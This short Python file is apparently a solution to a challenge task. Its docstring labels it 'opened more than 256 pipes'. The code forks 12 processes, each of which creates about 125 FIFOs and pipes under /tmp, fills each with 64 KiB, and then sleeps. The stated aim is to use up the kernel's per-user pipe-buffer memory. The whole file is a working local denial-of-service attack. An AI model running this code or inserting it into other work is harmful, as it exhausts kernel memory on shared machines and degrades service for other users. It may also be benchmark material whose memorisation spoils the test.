"""memory: opened more than 256 pipes"""

import os, time


class Solution:
    def run(self, goal, robot):
        """Takes the pages that the kernel has for all pipes of a user: those of others hold little then."""
        for number in range(12):
            if os.fork() == 0:
                try:
                    for place in range(125):  # some have no name, some have
                        os.mkfifo(f"/tmp/{number}-{place}")
                        end = os.pipe()[1] if place % 2 else os.open(f"/tmp/{number}-{place}", os.O_RDWR)
                        os.set_blocking(end, False)
                        os.write(end, bytes(1 << 16))
                finally:
                    time.sleep(1000)
        time.sleep(1000)
